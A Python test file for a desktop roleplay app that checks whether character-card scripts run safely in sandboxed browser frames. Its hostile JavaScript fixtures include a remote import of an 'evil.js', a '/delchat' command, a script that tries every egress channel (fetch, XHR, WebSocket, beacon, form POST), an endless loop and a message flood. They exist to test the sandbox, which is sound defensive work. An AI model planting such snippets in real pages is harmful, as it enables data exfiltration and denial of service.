"""A card's TavernHelper scripts run in hidden sandboxed frames of the conversation view (issue 27;
``ui/frames/script_frames.py``): a day-switch script reacts to the scribe's MVU update and the next prompt carries
what it set; a button script's button shows and its click changes a variable; an MVU loader never runs; a hostile
script (endless loop, message flood, every egress channel) is stopped with nothing reaching a real loopback listener
and the view keeps answering. Real QtWebEngine (offscreen), a real Chat with the replay model."""

from __future__ import annotations

import json
import os
import socket
import threading
import time
from pathlib import Path

from uihelpers import view_json as js_json
from uihelpers import wait_frame_report as wait_report
from uihelpers import wait_view as wait_js

from liyuan_desktop.core.cards import card_from_json
from liyuan_desktop.core.cards.meta import set_card_th_allowed
from liyuan_desktop.core.chat.facade import Chat
from liyuan_desktop.core.llm.replay import ReplayModel
from liyuan_desktop.ui.frames.script_frames import ScriptFrames


def _w(t: str) -> dict:
    return {"tool_calls": [{"name": "draft_write", "arguments": {"version": 0, "content": t}}]}


SEAL = {"tool_calls": [{"name": "draft_seal", "arguments": {"version": 1}}]}

DAY_SWITCH = """
eventOn('mag_variable_updated', (stat_data, path, oldValue, newValue) => {
  if (path === '日期' && oldValue !== newValue) { stat_data.今日行动 = 0; }
});
__liyuanReport({ready: 1});
"""
BUTTON = """
eventOnButton('测测喵', () => { insertOrAssignVariables({喵: '测过了'}, {type: 'chat'}); toastr.success('喵！'); });
__liyuanReport({ready: 1});
"""
LOADER = "import 'https://testingcf.jsdelivr.net/gh/MagicalAstrogy/MagVarUpdate/artifact/bundle.js';"


def _script(sid: str, name: str, content: str, buttons: tuple = ()) -> dict:
    return {"type": "script", "enabled": True, "name": name, "id": sid, "content": content, "info": "",
            "button": {"enabled": True, "buttons": [{"name": b, "visible": True} for b in buttons]}, "data": {}}


def _card(tmp_path, scripts: list, allowed: bool = True):
    data = {"name": "测", "first_mes": "你好。",
            "character_book": {"entries": [{"id": 0, "comment": "[InitVar]", "keys": [], "enabled": False,
                                            "content": json.dumps({"日期": "第1天", "今日行动": 3}, ensure_ascii=False),
                                            "insertion_order": 100, "extensions": {}}]},
            "extensions": {"tavern_helper": {"scripts": scripts, "variables": {}}}}
    card = card_from_json({"spec": "chara_card_v3", "spec_version": "3.0", "data": data}, str(tmp_path / "card.json"))
    (tmp_path / "card.json").write_text(json.dumps({"spec": "chara_card_v3", "data": data}, ensure_ascii=False), "utf-8")
    set_card_th_allowed(tmp_path, allowed)
    return card


class RecordingReplay(ReplayModel):
    """The replay model, keeping every request's text (what the model was sent)."""

    def __init__(self, *a, **kw) -> None:
        super().__init__(*a, **kw)
        self.sent: list[str] = []

    async def complete(self, request, on_delta=None):
        self.sent.append(json.dumps([m.model_dump() if hasattr(m, "model_dump") else str(m)
                                     for m in getattr(request, "messages", [])], ensure_ascii=False, default=str))
        return await super().complete(request, on_delta)


def _wire(view, chat) -> tuple[ScriptFrames, list]:
    """What the window does (ui/window/chat_flow.py ``_frame_variables_written``): frame writes go to the chat."""
    written: list = []

    def write(name, payload):
        written.append((name, payload))
        chat.write_frame_variables(payload.get("message_id"), payload.get("variables") or {},
                                   str(payload.get("type") or "message"))
    view.frameVariablesChanged.connect(write)
    shown: list = []
    sf = ScriptFrames(view, shown.append)
    return sf, written


def _show(view, chat) -> None:
    items = chat.transcript()
    view.set_transcript([dict(it, id=str(i), entry_id=it["id"]) for i, it in enumerate(items)], False)


def test_day_switch_script_changes_a_variable_after_the_scribe_and_the_next_prompt_has_it(qtbot, view, tmp_path, qloop):
    card = _card(tmp_path, [_script("day", "换日", DAY_SWITCH), _script("mvu", "MVU", LOADER)])
    model = RecordingReplay(actor=[_w("第二天了。"), SEAL, _w("又一拍。"), SEAL],
                            scribe=['{"patch": {}, "mvu_patch": {"日期": "第2天"}}', '{"patch": {}, "mvu_patch": {}}'])
    chat = Chat.create(tmp_path / "c", card, model)
    sf, written = _wire(view, chat)
    _show(view, chat)
    ran = sf.set_chat(chat)
    assert [s.id for s in ran] == ["day"]                     # the MVU loader is not run: our scribe plays MVU
    wait_js(qtbot, view, "liyuan.scriptNames()", lambda v: v == ["TH-script--换日--day"], timeout=20)
    wait_report(qtbot, view, "TH-script--换日--day", lambda r: r.get("ready") == 1, timeout=20.0)
    sf.beat_started(chat)
    qloop.run_until_complete(chat.send("睡一觉"))
    assert chat.current_mvu().stat_data == {"日期": "第2天", "今日行动": 3}
    _show(view, chat)
    sf.beat_finished(chat)
    qtbot.waitUntil(lambda: chat.current_mvu().stat_data.get("今日行动") == 0, timeout=20000)
    assert chat.current_mvu().stat_data == {"日期": "第2天", "今日行动": 0}
    assert written and written[-1][0] == "TH-script--换日--day"
    n = len(model.sent)
    r = qloop.run_until_complete(chat.send("再来"))
    assert '"今日行动": 0' in r.scribe.user or "今日行动: 0" in r.scribe.user, r.scribe.user[-600:]
    assert any("今日行动" in s and "第2天" in s for s in model.sent[n:])   # what the models were sent carries it
    again = Chat.open(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    assert again.current_mvu().stat_data["今日行动"] == 0        # persisted like a bar's write


def test_a_button_script_shows_its_button_and_a_click_changes_a_variable(qtbot, view, tmp_path):
    card = _card(tmp_path, [_script("btn", "按钮", BUTTON, buttons=("测测喵",))])
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    sf, written = _wire(view, chat)
    _show(view, chat)
    sf.set_chat(chat)
    assert sf.buttons() == [("btn", "测测喵")]
    wait_report(qtbot, view, "TH-script--按钮--btn", lambda r: r.get("ready") == 1, timeout=20.0)
    sf.click("btn", "测测喵")
    qtbot.waitUntil(lambda: bool(written), timeout=20000)
    assert chat.frame_variables().get("chat") == {"喵": "测过了"}
    qtbot.waitUntil(lambda: any("喵！" in n for n in sf.notices), timeout=10000)  # toastr became a notice


SLASH = """
triggerSlash('/setvar key=心情 好').then(() => triggerSlash('/getvar 心情')).then(v => triggerSlash('/echo 心情是' + v));
triggerSlash('/delchat');
replaceScriptButtons([{name: '新按钮', visible: true}, {name: '藏起来', visible: false}]);
import('https://example.com/evil.js').catch(() => {});
"""


def test_slash_subset_buttons_replaced_and_remote_import_refused(qtbot, view, tmp_path):
    card = _card(tmp_path, [_script("s", "斜杠", SLASH)])
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    sf, written = _wire(view, chat)
    _show(view, chat)
    sf.set_chat(chat)
    qtbot.waitUntil(lambda: sf.buttons() == [("s", "新按钮")], timeout=20000)
    qtbot.waitUntil(lambda: any("心情是好" in n for n in sf.notices), timeout=10000)
    qtbot.waitUntil(lambda: any("/delchat" in n for n in sf.notices), timeout=10000)
    assert any("https://example.com/evil.js" in n for n in sf.notices)
    assert chat.frame_variables().get("chat") == {"心情": "好"}


class Listener:
    """A real loopback TCP listener counting every connection and byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.packets = 0
        self._stop = False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.packets += 1
            conn.close()

    def close(self) -> None:
        self._stop = True
        self.sock.close()


EGRESS = """
const u = 'http://127.0.0.1:{port}';
fetch(u + '/fetch').catch(() => {{}});
const x = new XMLHttpRequest(); try {{ x.open('GET', u + '/xhr'); x.send(); }} catch (e) {{}}
try {{ new WebSocket('ws://127.0.0.1:{port}/ws'); }} catch (e) {{}}
const img = new Image(); img.src = u + '/img.png'; document.body.appendChild(img);
const f = document.createElement('form'); f.action = u + '/form'; f.method = 'POST'; document.body.appendChild(f);
try {{ f.submit(); }} catch (e) {{}}
if (navigator.sendBeacon) navigator.sendBeacon(u + '/beacon', 'x');
import(u + '/evil.js').catch(() => {{}});
insertOrAssignVariables({{tried: 1}}, {{type: 'chat'}});
"""
LOOP = "setTimeout(() => { while (true) {} }, 500);"
FLOOD = """
let n = 0, t0 = Date.now();
function burst() {
  for (let i = 0; i < 20000; i++) parent.postMessage({__th: 'log', level: 'info', text: 'f' + (n++)}, '*');
  if (Date.now() - t0 < 6000) setTimeout(burst, 0);
}
setTimeout(burst, 300);
"""


CALM = "insertOrAssignVariables({calm: 1}, {type: 'chat'});"


def test_every_egress_channel_of_a_script_is_refused_with_nothing_out(qtbot, view, tmp_path):
    lis = Listener()
    card = _card(tmp_path, [_script("e", "外联", EGRESS.format(port=lis.port))])
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    sf, written = _wire(view, chat)
    _show(view, chat)
    try:
        sf.set_chat(chat)
        qtbot.waitUntil(lambda: any(p.get("variables", {}).get("tried") for _, p in written), timeout=30000)
        qtbot.wait(2000)
        assert lis.packets == 0
        assert any(f"http://127.0.0.1:{lis.port}/evil.js" in n for n in sf.notices)   # the refused import, named
        blocked = " ".join(view.blocked_requests())
        for what in ("/fetch", "/xhr", "/ws", "/img.png"):
            assert what in blocked, (what, blocked)
    finally:
        lis.close()


def test_an_endless_loop_is_stopped_and_the_other_script_comes_back(qtbot, view, tmp_path):
    card = _card(tmp_path, [_script("c", "安静", CALM), _script("l", "死循环", LOOP)])
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    sf, written = _wire(view, chat)
    failed: list = []
    view.frameFailed.connect(lambda name, why: failed.append((name, why)))
    view.set_frame_watchdog(pingMs=200, hangMs=1500, loadMs=8000, reuseMs=1500)
    _show(view, chat)
    try:
        sf.set_chat(chat)
        qtbot.waitUntil(lambda: ("TH-script--死循环--l", "hung") in failed, timeout=90000)
        t0 = time.monotonic()
        assert js_json(qtbot, view, "1 + 1") == 2            # the window stays responsive
        assert time.monotonic() - t0 < 10
        assert any("死循环" in n for n in sf.notices)
        try:
            wait_js(qtbot, view, "liyuan.scriptNames()", lambda v: v == ["TH-script--安静--c"], timeout=60)
        finally:
            print("FAILED", failed, view.failed_frames())
        assert [n for n, _ in failed] == ["TH-script--死循环--l"]
    finally:
        view.set_frame_watchdog(pingMs=1000, hangMs=5000, loadMs=15000, reuseMs=3000)


def test_a_flooding_script_is_stopped_and_the_view_keeps_answering(qtbot, view, tmp_path):
    card = _card(tmp_path, [_script("f", "洪水", FLOOD), _script("d", "换日", DAY_SWITCH)])
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    sf, _ = _wire(view, chat)
    failed: list = []
    view.frameFailed.connect(lambda name, why: failed.append((name, why)))
    _show(view, chat)
    sf.set_chat(chat)
    qtbot.waitUntil(lambda: ("TH-script--洪水--f", "flood") in failed, timeout=60000)
    qtbot.waitUntil(lambda: any("洪水" in n for n in sf.notices), timeout=5000)
    end = time.monotonic() + 30
    while True:                                  # (the page may be reloading: frame_guard.after_flood)
        box: list = []
        view.eval_js("1 + 1", box.append)
        step = time.monotonic() + 0.5
        while not box and time.monotonic() < step:
            qtbot.wait(10)
        if box == [2] or time.monotonic() > end:
            break
    assert box == [2]
    wait_js(qtbot, view, "liyuan.scriptNames()", lambda v: v == ["TH-script--换日--d"], timeout=30)


def test_nothing_runs_until_the_card_is_allowed(qtbot, view, tmp_path):
    card = _card(tmp_path, [_script("day", "换日", DAY_SWITCH)], allowed=False)
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]))
    sf, _ = _wire(view, chat)
    _show(view, chat)
    assert sf.set_chat(chat) == []
    assert js_json(qtbot, view, "liyuan.scriptNames()") == []


# ---- in the window ------------------------------------------------------------------------------------------------
SHOTS = os.environ.get("LIYUAN_SHOTS")  # a folder for the screenshots (else the test's tmp folder)


async def test_window_asks_once_then_shows_the_button_row_and_the_script_list(qtbot, tmp_path):
    from PySide6.QtCore import QTimer
    from PySide6.QtWidgets import QApplication, QMessageBox
    from uihelpers import js, wait_for

    from liyuan_desktop.core import settings as S
    from liyuan_desktop.core.cards import library
    from liyuan_desktop.core.cards.meta import card_th_permission
    from liyuan_desktop.ui.roleplay.script_buttons import open_script_list
    from liyuan_desktop.ui.window.main_window import MainWindow

    data = {"name": "猫咖", "first_mes": "欢迎光临。",
            "character_book": {"entries": [{"id": 0, "comment": "[InitVar]", "keys": [], "enabled": False,
                                            "content": json.dumps({"日期": "第1天", "今日行动": 3}, ensure_ascii=False),
                                            "insertion_order": 100, "extensions": {}}]},
            "extensions": {"tavern_helper": {"scripts": [
                _script("btn", "测测喵", BUTTON, buttons=("测测喵", "重新处理变量")),
                {"type": "folder", "enabled": True, "name": "规则", "id": "fold", "scripts": [
                    _script("day", "换日", DAY_SWITCH)]},
                _script("mvu", "MVU", LOADER)], "variables": {}}}}
    f = tmp_path / "猫咖.json"
    f.write_text(json.dumps({"spec": "chara_card_v3", "spec_version": "3.0", "data": data}, ensure_ascii=False), "utf-8")
    ref = library.import_card(f)
    d = library.new_chat_dir(ref, "一")
    c = Chat.create(d, ref.load(), ReplayModel(actor=[]))
    c.close()
    chat_ref = library.ChatRef(name=d.name, dir=str(d))
    win = MainWindow(S.AppSettings())
    qtbot.addWidget(win)
    win.show()
    await wait_for(win.view.is_ready)
    asked: list = []

    def answer() -> None:
        box = QApplication.activeModalWidget()
        if not isinstance(box, QMessageBox):
            QTimer.singleShot(50, answer)
            return
        asked.append((box.text(), box.defaultButton() is box.button(QMessageBox.StandardButton.No)))
        box.button(QMessageBox.StandardButton.Yes).click()
    QTimer.singleShot(50, answer)
    assert win.open_chat(ref, chat_ref)
    await wait_for(lambda: bool(asked), 20)
    assert "猫咖" in asked[0][0] and asked[0][1]           # asked once, No is the default
    assert card_th_permission(ref.dir).allowed is True
    await wait_for(lambda: [b.text() for b in win.script_row.buttons] == ["测测喵", "重新处理变量"], 20)
    assert win.script_row.isVisible()
    assert await js(win, "liyuan.scriptNames()") == ["TH-script--测测喵--btn", "TH-script--换日--day"]

    async def ready() -> bool:
        reps = await js(win, "liyuan.frameReports()")
        return any(r["name"] == "TH-script--测测喵--btn" and r["data"].get("ready") for r in reps)
    for _ in range(500):
        if await ready():
            break
        await asyncio_sleep(0.05)
    win.script_row.buttons[0].click()
    await wait_for(lambda: (win.chat.frame_variables().get("chat") or {}).get("喵") == "测过了", 20)
    await wait_for(lambda: "喵！" in win.statusBar().currentMessage(), 10)
    shots = Path(SHOTS) if SHOTS else tmp_path
    centre = win.view.parentWidget()
    centre.grab().save(str(shots / "script_button_row.png"))
    dlg = open_script_list(win, ref)
    assert dlg is not None
    await wait_for(dlg.isVisible, 5)
    rows = [[dlg.list.topLevelItem(i).text(k) for k in (0, 2, 3, 5)] for i in range(dlg.list.topLevelItemCount())]
    assert rows[2][0] == "MVU" and "MVU" in rows[2][3]
    assert rows[1][:2] == ["换日", "规则"]
    dlg.grab().save(str(shots / "script_list.png"))
    # switching a script off in the list stops it (its buttons go)
    from PySide6.QtCore import Qt

    dlg.list.topLevelItem(0).setCheckState(1, Qt.CheckState.Unchecked)
    await wait_for(lambda: win.script_row.buttons == [] and not win.script_row.isVisible(), 20)
    assert await js(win, "liyuan.scriptNames()") == ["TH-script--换日--day"]
    dlg.close()


async def asyncio_sleep(s: float) -> None:
    import asyncio

    await asyncio.sleep(s)


def test_a_presets_scripts_run_once_allowed_for_that_preset(qtbot, view, tmp_path):
    """Presets carry scripts the same way (issue 27): the chat's preset's scripts are asked about for that preset,
    run once allowed (before the card's, TavernHelper's order), and their buttons show."""
    from liyuan_desktop.core.cards.meta import preset_th_permission, set_preset_th_permission
    from liyuan_desktop.core.prompt.presets.model import Preset
    from liyuan_desktop.core.prompt.presets.store import presets_dir

    card = _card(tmp_path, [])
    raw = {"temperature": 0.8, "prompts": [{"identifier": "main", "name": "Main", "role": "system", "content": "主。"}],
           "prompt_order": [{"character_id": 100001, "order": [{"identifier": "main", "enabled": True}]}],
           "extensions": {"tavern_helper": {"scripts": [_script("pbtn", "预设按钮", BUTTON, buttons=("测测喵",))],
                                            "variables": {}}}}
    preset = Preset.from_json(raw, name="带脚本的预设")
    chat = Chat.create(tmp_path / "c", card, ReplayModel(actor=[], scribe=[]), preset=preset)
    scopes = chat.script_scopes()
    assert [(s.source, s.name, s.needs_asking) for s in scopes] == [("preset", "带脚本的预设", True)]
    sf, written = _wire(view, chat)
    _show(view, chat)
    assert sf.set_chat(chat) == []  # not asked yet: nothing runs
    set_preset_th_permission(presets_dir(), "带脚本的预设", True)
    assert preset_th_permission(presets_dir(), "带脚本的预设").allowed is True
    ran = sf.set_chat(chat)
    assert [s.id for s in ran] == ["pbtn"] and sf.buttons() == [("pbtn", "测测喵")]
    wait_report(qtbot, view, "TH-script--预设按钮--pbtn", lambda r: r.get("ready") == 1, timeout=20.0)
    sf.click("pbtn", "测测喵")
    qtbot.waitUntil(lambda: bool(written), timeout=20000)
    assert chat.frame_variables().get("chat") == {"喵": "测过了"}
